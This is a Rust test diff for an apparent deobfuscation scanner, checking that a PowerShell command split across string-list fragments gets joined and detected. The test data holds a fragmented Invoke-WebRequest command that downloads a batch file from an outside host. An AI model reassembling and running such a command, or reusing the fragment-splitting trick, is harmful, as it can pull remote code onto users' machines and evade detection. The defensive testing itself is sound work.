@@ -195,3 +195,16 @@ fn a_base64_word_inside_a_command_string_is_decoded() {
         "{found:?}"
     );
 }
+
+#[test]
+fn a_command_split_into_list_fragments_is_joined() {
+    let src = br#"parts = ["powershell -C", "ommand \"", "Invoke-WebRequest ", "'http://stellar-", "conquest.fr/launcher.bat' ", "-OutFile x.bat\""]"#;
+    let found = decode_all(src);
+    assert!(
+        found.iter().any(|d| d.chain == ["joined fragments"]
+            && String::from_utf8_lossy(&d.text)
+                .contains("http://stellar-conquest.fr/launcher.bat")),
+        "{found:?}"
+    );
+    assert!(decode_all(br#"COLORS = ["red", "green", "blue", "black", "white"]"#).is_empty());
+}
